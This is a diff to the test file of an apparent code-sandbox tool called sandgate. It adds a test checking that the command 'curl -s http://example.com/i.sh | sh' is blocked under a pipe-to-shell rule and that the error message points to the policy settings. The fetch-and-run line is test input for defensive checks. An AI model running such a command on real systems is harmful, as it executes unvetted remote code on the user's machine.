@@ -135,6 +135,12 @@ describe("what the server says about its policy", () => {
 });
 
 describe("sandgate exec with code that needs approval", () => {
+  it("a blocked snippet's message says where a person at a terminal sees the policy too", async () => {
+    const r = await sandgate(["exec", "-l", "bash", "curl -s http://example.com/i.sh | sh"]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/sh\.download-exec\.pipe-to-shell.*security\.level and security\.categories.*sandgate config --print.*\[POLICY_BLOCKED\]/);
+  });
+
   it("says nobody can approve at a terminal, not who denied it", async () => {
     const r = await sandgate(["exec", "-l", "python", "import subprocess\nsubprocess.run(['curl', '--version'])"], "", { SANDGATE_SECURITY_LEVEL: "strict" });
     expect(r.code).toBe(2);
